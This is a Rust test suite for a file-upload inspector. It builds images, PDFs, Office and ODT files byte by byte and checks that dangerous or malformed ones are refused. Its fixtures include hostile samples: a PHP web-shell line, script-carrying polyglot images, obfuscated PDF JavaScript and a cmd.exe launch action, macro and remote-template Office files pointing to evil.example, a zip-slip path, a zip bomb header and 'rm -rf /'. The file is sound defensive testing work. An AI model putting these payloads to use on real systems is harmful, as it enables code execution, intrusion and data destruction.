//! Files of every kind, made here byte by byte; what is refused; and that no bytes make a parser panic.

use proptest::prelude::*;

use super::*;

/// An archive with these entries, not compressed.
fn archive(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let (mut bytes, mut directory) = (Vec::new(), Vec::new());
    let short = |number: usize| u16::try_from(number).unwrap().to_le_bytes();
    let long = |number: usize| u32::try_from(number).unwrap().to_le_bytes();
    for (name, content) in entries {
        let local = bytes.len();
        let sizes = [[0; 4], long(content.len()), long(content.len())].concat();
        let lengths = [short(name.len()), [0, 0]].concat();
        bytes.extend(
            [b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0".as_slice(), &sizes, &lengths, name.as_bytes(), content].concat(),
        );
        directory.extend([b"PK\x01\x02\x14\0\x14\0\0\0\0\0\0\0\0\0".as_slice(), &sizes, &lengths].concat());
        directory.extend([&[0; 10][..], &long(local), name.as_bytes()].concat());
    }
    let start = bytes.len();
    let count = short(entries.len());
    bytes.extend(&directory);
    bytes.extend(
        [b"PK\x05\x06\0\0\0\0".as_slice(), &count, &count, &long(directory.len()), &long(start), &[0, 0]].concat(),
    );
    bytes
}

fn types(main: &str) -> String {
    format!("<Types><Override PartName=\"/a\" ContentType=\"application/vnd.openxmlformats-{main}\"/></Types>")
}

fn office(main: &str, more: &[(&str, &[u8])]) -> Vec<u8> {
    let types = types(main);
    archive(&[&[("[Content_Types].xml", types.as_bytes())], more].concat())
}

const DOCX: &str = "officedocument.wordprocessingml.document.main+xml";
const XLSX: &str = "officedocument.spreadsheetml.sheet.main+xml";
const PPTX: &str = "officedocument.presentationml.presentation.main+xml";

fn png() -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\x02\x80\0\0\x01\xe0\x08\x02\0\0\0crc!".to_vec();
    bytes.extend(b"\0\0\0\x02IDATxycrc!\0\0\0\0IENDcrc!");
    bytes
}

fn jpeg() -> Vec<u8> {
    let mut bytes = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x02\0\0\x01\0\x01\0\0".to_vec();
    bytes.extend(
        b"\xff\xff\xc2\0\x11\x08\x01\xe0\x02\x80\x03\x01\x22\0\x02\x11\x01\x03\x11\x01\xff\xda\0\x08data\xff\xd9",
    );
    bytes
}

fn gif() -> Vec<u8> {
    b"GIF89a\x80\x02\xe0\x01\0\0\0,data;".to_vec()
}

fn webp(chunk: &[u8]) -> Vec<u8> {
    let length = u32::try_from(chunk.len() + 4).unwrap().to_le_bytes();
    [b"RIFF".as_slice(), &length, b"WEBP", chunk].concat()
}

fn webps() -> [Vec<u8>; 3] {
    [
        webp(b"VP8 \x10\0\0\0\0\0\0\x9d\x01\x2a\x80\x02\xe0\x01data"),
        webp(b"VP8L\x10\0\0\0\x2f\x7f\xc2\x77\0data"),
        webp(b"VP8X\x0a\0\0\0\0\0\0\0\x7f\x02\0\xdf\x01\0more"),
    ]
}

fn pdf(middle: &[u8]) -> Vec<u8> {
    [
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
        middle,
        b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
    ]
    .concat()
}

fn object_stream(dictionary: &str, inside: &[u8]) -> Vec<u8> {
    let packed = miniz_oxide::deflate::compress_to_vec_zlib(inside, 6);
    let head = format!("5 0 obj\n<< /Type /ObjStm {dictionary} /Length {} >>\nstream\r\n", packed.len());
    pdf(&[head.as_bytes(), &packed, b"\nendstream\nendobj"].concat())
}

#[track_caller]
fn passes(name: &str, bytes: &[u8], expect: Kind) -> Inspected {
    let found = inspect(name, None, bytes).unwrap_or_else(|refused| panic!("{name}: {refused}"));
    assert_eq!(found.kind, expect, "{name}");
    found
}

#[track_caller]
fn refused(bytes: &[u8], expect: Refused) {
    assert_eq!(inspect("x", None, bytes), Err(expect));
}

#[test]
fn pictures_are_known_by_their_content_and_measured() {
    let pictures = [png(), jpeg(), gif()].into_iter().chain(webps());
    let kinds = [Kind::Png, Kind::Jpeg, Kind::Gif, Kind::Webp, Kind::Webp, Kind::Webp];
    for (bytes, kind) in pictures.zip(kinds) {
        let found = passes("picture.exe", &bytes, kind);
        assert_eq!(found.size, Some((640, 480)), "{kind:?}");
        assert_eq!(found.name, format!("picture.exe.{}", kind.extensions()[0]));
        assert_eq!(Kind::of_media_type(kind.media_type()), Some(kind));
    }
}

#[test]
fn damaged_and_dangerous_pictures_are_refused() {
    let cut = Refused::Broken("the picture ends too early");
    refused(&png()[..40], cut);
    refused(&jpeg()[..20], cut);
    refused(b"\xff\xd8\xff\xda\0\x04data", cut);
    refused(&gif()[..9], cut);
    refused(&webps()[0][..25], cut);
    let with_size = |width: [u8; 4]| {
        let mut bytes = png();
        bytes[16..20].copy_from_slice(&width);
        bytes
    };
    refused(&with_size([0; 4]), Refused::Broken("the picture has no size"));
    refused(&with_size([0x7f; 4]), Refused::Broken("the picture has too many pixels"));
    // A picture that is an archive, a document or a script as well.
    let both = |more: &[u8]| [png(), more.to_vec()].concat();
    refused(&both(&archive(&[("run.class", b"x")])), Refused::TwoInOne);
    refused(&both(b"%PDF-1.4 %%EOF"), Refused::TwoInOne);
    refused(&both(b"<html onload=alert(1)>"), Refused::TwoInOne);
    refused(&both(&[vec![0; 5000], b"<SCRIPT>alert(1)</script>".to_vec()].concat()), Refused::TwoInOne);
    refused(&both(&[vec![0; 5000], b"<?php system($_GET[0]);".to_vec()].concat()), Refused::TwoInOne);
    refused(b"GIF89a/*\x01\x01\0\0*/=1;<script>alert(1)</script>", Refused::TwoInOne);
}

#[test]
fn a_pdf_passes_unless_it_does_something() {
    passes("bill.pdf", &pdf(b"3 0 obj << /Type /Page >> endobj"), Kind::Pdf);
    passes("bill.pdf", &pdf(b"<< /OpenAction [3 0 R /Fit] /Names << /Dests 4 0 R >> /JSomething 1 >>"), Kind::Pdf);
    passes("bill.pdf", &object_stream("/Filter /FlateDecode", b"7 0 << /Type /Page >>"), Kind::Pdf);
    let scripts = Refused::Active("scripts");
    refused(&pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"), scripts);
    refused(&pdf(b"<< /S /J#61v#61Script >>"), scripts);
    refused(&pdf(b"<< /S /Rendition /#4a#53\n12 0 R >>"), scripts);
    refused(&pdf(b"<</S/Rendition/JS<6170>>>"), scripts);
    refused(&pdf(b"<< /S /Launch /F (cmd.exe) >>"), Refused::Active("a program to start"));
    refused(&pdf(b"<< /Names << /EmbeddedFiles 9 0 R >> >>"), Refused::Active("other files"));
    refused(&pdf(b"<< /Type /Embedded#46ile >>"), Refused::Active("other files"));
    refused(&pdf(b"<< /Type /Filespec /EF << /F 3 0 R >> >>"), Refused::Active("other files"));
    refused(&pdf(b"<< /AcroForm << /XFA 3 0 R >> >>"), Refused::Active("a form that runs scripts"));
    refused(&pdf(b"<< /Subtype /RichMedia >>"), Refused::Active("moving parts"));
    refused(b"%PDF-1.7 cut", Refused::Broken("the PDF ends too early"));
    refused(&[pdf(b""), archive(&[("a", b"b")])].concat(), Refused::TwoInOne);
}

#[test]
fn a_pdf_hides_nothing_in_its_object_streams() {
    refused(&object_stream("/Filter /FlateDecode", b"7 0 << /S /JavaScript /JS (x) >>"), Refused::Active("scripts"));
    refused(&object_stream("/Filter/Fl", b"7 0 << /S /L#61unch >>"), Refused::Active("a program to start"));
    // What cannot be looked into does not pass.
    for dictionary in
        ["/Filter [/ASCII85Decode /FlateDecode]", "/DecodeParms << /Predictor 12 >>", "/A (stream)", "%x\n"]
    {
        let found = inspect("x", None, &object_stream(dictionary, b"7 0 << >>"));
        assert_eq!(found, Err(Refused::Locked), "{dictionary}");
    }
    refused(&pdf(b"5 0 obj << /Type /Obj#53tm >> stream\n7 0 << >>\nendstream"), Refused::Locked);
    let locked = [object_stream("/Filter /FlateDecode", b"7 0 << >>"), b"/Encrypt 3 0 R %%EOF".to_vec()].concat();
    refused(&locked, Refused::Locked);
    // Encryption leaves names readable where there are no such streams.
    passes("bill.pdf", &pdf(b"<< /Encrypt 3 0 R >>"), Kind::Pdf);
}

#[test]
fn office_files_are_what_they_say() {
    passes("a.docx", &office(DOCX, &[("word/document.xml", b"<w/>"), ("word/media/image1.png", b"x")]), Kind::Docx);
    passes("a.zip", &office(XLSX, &[("xl/printerSettings/printerSettings1.bin", b"x")]), Kind::Xlsx);
    passes("a.pptx", &office(PPTX, &[]), Kind::Pptx);
    let odt = archive(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<o/>")]);
    assert_eq!(passes("a.doc", &odt, Kind::Odt).name, "a.doc.odt");
    refused(&archive(&[("a.txt", b"hello")]), Refused::Kind);
    refused(&archive(&[("mimetype", b"application/epub+zip")]), Refused::Kind);
    refused(&archive(&[("content.xml", b""), ("mimetype", b"application/vnd.oasis.opendocument.text")]), Refused::Kind);
    refused(&office("something.else+xml", &[]), Refused::Kind);
    refused(&office(&format!("{DOCX}\"/><Override ContentType=\"{XLSX}"), &[]), Refused::TwoInOne);
}

#[test]
fn office_files_hold_nothing_that_runs() {
    refused(&office(DOCX, &[("word/vbaProject.bin", b"x")]), Refused::Macros);
    refused(&office(DOCX, &[("word\\VBAPROJECT.BIN", b"x")]), Refused::Macros);
    refused(&office("officedocument.wordprocessingml.document.macroEnabled.main+xml", &[]), Refused::Macros);
    refused(
        &office(&format!("{DOCX}\"/><Default ContentType=\"application/vnd.ms-office.vbaProject"), &[]),
        Refused::Macros,
    );
    let odt = |name| archive(&[("mimetype", b"application/vnd.oasis.opendocument.text"), (name, b"x")]);
    refused(&odt("Basic/Standard/Module1.xml"), Refused::Macros);
    refused(&office(DOCX, &[("word/embeddings/setup.EXE", b"MZ")]), Refused::Embedded("a program"));
    refused(&office(DOCX, &[("word/embeddings/oleObject1.bin", b"x")]), Refused::Embedded("an object that runs"));
    refused(&office(DOCX, &[("word/activeX/activeX1.xml", b"x")]), Refused::Embedded("an object that runs"));
    let relation = |kind: &str, target: &str| {
        let rels = format!(
            "<Relationships><Relationship Id='r' Type='http://schemas.example/relationships/{kind}' Target = '{target}' TargetMode='External'/></Relationships>"
        );
        office(DOCX, &[("word/_rels/settings.xml.rels", rels.as_bytes())])
    };
    let afar = Refused::Embedded("a part that is loaded from elsewhere");
    refused(&relation("attachedTemplate", "https://evil.example/t.dotm"), afar);
    refused(&relation("oleObject", "mhtml:x"), afar);
    refused(&relation("attachedTemplate", "file:///\\\\evil.example\\t.dotm"), afar);
    passes("a.docx", &relation("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"), Kind::Docx);
    passes("a.docx", &relation("hyperlink", "https://example.com/"), Kind::Docx);
}

#[test]
fn an_archive_is_read_strictly() {
    let good = office(DOCX, &[("word/document.xml", b"<w/>")]);
    // Something before, between or behind.
    refused(&[b"PK\x03\x04junk".to_vec(), good.clone()].concat(), Refused::TwoInOne);
    refused(&[good.clone(), b"tail".to_vec()].concat(), Refused::Broken("the archive's directory cannot be read"));
    refused(&good[..good.len() - 30], Refused::Broken("the archive's directory cannot be read"));
    let other_name = good.windows(6).position(|six| six == b"word/d").unwrap();
    let mut lies = good.clone();
    lies[other_name] = b'W';
    refused(&lies, Refused::Broken("the archive contradicts itself"));
    let mut locked = good.clone();
    let directory = good.windows(4).position(|four| four == b"PK\x01\x02").unwrap();
    locked[directory + 8] = 1;
    refused(&locked, Refused::Locked);
    let mut bomb = good;
    bomb[directory + 24..directory + 28].copy_from_slice(&[0xff; 4]);
    refused(&bomb, Refused::Broken("it unfolds to far too much"));
    refused(&office(DOCX, &[("../evil.xml", b"x")]), Refused::Broken("the archive contradicts itself"));
}

/// Boxes of the HEIF family, with these brands.
fn heic(brands: &str) -> Vec<u8> {
    let one = |kind: &[u8], content: &[u8]| {
        let length = u32::try_from(content.len() + 8).unwrap().to_be_bytes();
        [&length, kind, content].concat()
    };
    let brands = format!("{}\0\0\0\0{}", &brands[..4], &brands[4..]);
    [one(b"ftyp", brands.as_bytes()), one(b"meta", b"\0\0\0\0"), b"\0\0\0\0mdatto the end".to_vec()].concat()
}

#[test]
fn what_telephones_take_is_saved_and_not_shown() {
    for brands in ["heic", "heixmif1", "mif1heic", "mif1miafheix"] {
        let found = passes("IMG_0042.HEIC", &heic(brands), Kind::Heic);
        assert_eq!((&*found.name, found.size), ("IMG_0042.heic", None), "{brands}");
    }
    assert!(!Kind::Heic.is_picture());
    assert_eq!(inspect("x", Some("image/heic"), &heic("heic")).map(|found| found.kind), Ok(Kind::Heic));
    for other in ["avif", "mif1avif", "mif1", "isommp41", "qt  "] {
        refused(&heic(other), Refused::Kind);
    }
    let cut = Refused::Broken("the picture ends too early");
    let good = heic("heic");
    for end in [12, 15, 20, 27, 30] {
        refused(&good[..end], cut);
    }
    let mut long = good.clone();
    long[19] = 0xff;
    refused(&long, cut);
    refused(&[&good[..], &archive(&[("a", b"x")])].concat(), Refused::TwoInOne);
    refused(&heic("heic%PDF-1.7"), Refused::TwoInOne);
}

#[test]
fn texts_are_texts() {
    assert_eq!(passes("notes", b"Hello\r\n\tthere", Kind::Text).name, "notes.txt");
    assert_eq!(passes("data.CSV", "\u{feff}名,数\n猫,3\n".as_bytes(), Kind::Csv).name, "data.csv");
    assert_eq!(passes("run.js", b"alert(1)", Kind::Text).name, "run.js.txt");
    passes("a.log", b"\x1b[31merror\x1b[0m 1 < 2", Kind::Text);
    passes("a.txt", b"MZ is how programs begin", Kind::Text);
    for markup in [
        "<svg xmlns=\"x\"/>",
        "  <!DOCTYPE html>",
        "<?xml version=\"1.0\"?>",
        "hi <script>alert(1)</script>",
        "\u{feff}<HTML>",
    ] {
        refused(markup.as_bytes(), Refused::Markup);
    }
    refused(b"#!/bin/sh\nrm -rf /", Refused::Program);
    refused(b"MZ\x90\0\x03\0", Refused::Program);
    refused(b"\x7fELF\x02\x01\x01\0", Refused::Program);
    refused(b"some text %PDF-1.4", Refused::TwoInOne);
    refused(b"nul\0byte", Refused::Kind);
    refused(b"\xff\xfeh\0i\0", Refused::Kind);
    refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", Refused::Kind);
    refused(b"", Refused::Empty);
}

#[test]
fn what_is_claimed_must_not_contradict() {
    let check = |claimed: &str, bytes: &[u8]| inspect("x", Some(claimed), bytes).map(|found| found.kind);
    assert_eq!(check("image/png", &jpeg()), Ok(Kind::Jpeg));
    assert_eq!(check("application/octet-stream", &png()), Ok(Kind::Png));
    assert_eq!(check("", &png()), Ok(Kind::Png));
    assert_eq!(check("application/vnd.ms-excel", b"a,b\n"), Ok(Kind::Text));
    assert_eq!(check("text/plain; charset=utf-8", b"hi"), Ok(Kind::Text));
    assert_eq!(check("image/png", &pdf(b"")), Err(Refused::Mismatch));
    assert_eq!(check("image/svg+xml", b"hello"), Err(Refused::Mismatch));
    assert_eq!(check("application/pdf", b"hello"), Err(Refused::Mismatch));
}

fn samples() -> Vec<Vec<u8>> {
    let mut all = vec![png(), jpeg(), gif(), pdf(b"<< /JS (x) >>"), b"text".to_vec()];
    all.extend(webps());
    all.push(heic("heicmif1"));
    all.push(object_stream("/Filter /FlateDecode", b"7 0 << /Type /Page >>"));
    all.push(office(DOCX, &[("word/document.xml", b"<w/>"), ("word/_rels/a.rels", b"<Relationship/>")]));
    all.push(archive(&[("mimetype", b"application/vnd.oasis.opendocument.text")]));
    all
}

proptest! {
    #[test]
    fn no_bytes_make_it_panic(name in "\\PC{0,40}", bytes in prop::collection::vec(any::<u8>(), 0..400)) {
        if let Ok(found) = inspect(&name, None, &bytes) {
            prop_assert!(found.size.is_none_or(|(width, height)| width > 0 && height > 0));
        }
    }

    #[test]
    fn no_changed_file_makes_it_panic(
        sample in 0..samples().len(),
        changes in prop::collection::vec((any::<usize>(), any::<u8>(), any::<u8>()), 1..8),
        cut in prop::option::of(any::<usize>()),
    ) {
        let mut bytes = samples()[sample].clone();
        for (at, how, byte) in changes {
            let at = at % bytes.len().max(1);
            match how % 4 {
                0 | 3 if at < bytes.len() => bytes[at] = byte,
                1 if at < bytes.len() => drop(bytes.remove(at)),
                _ => bytes.insert(at, byte),
            }
        }
        if let Some(cut) = cut {
            bytes.truncate(cut % (bytes.len() + 1));
        }
        if let Err(refused) = inspect("x", None, &bytes) {
            let (status, code) = refused.code();
            prop_assert!(matches!(status, 415 | 422) && code.starts_with("attachment_"));
        }
    }

    #[test]
    fn bytes_behind_a_mark_make_it_not_panic(
        mark in prop::sample::select(vec![&b"\x89PNG\r\n\x1a\n"[..], b"\xff\xd8\xff", b"GIF89a", b"RIFF", b"%PDF-", b"PK\x03\x04", b"\0\0\0\x10ftypheic"]),
        bytes in prop::collection::vec(any::<u8>(), 0..200),
    ) {
        let _ = inspect("x", None, &[mark, &bytes].concat());
    }
}
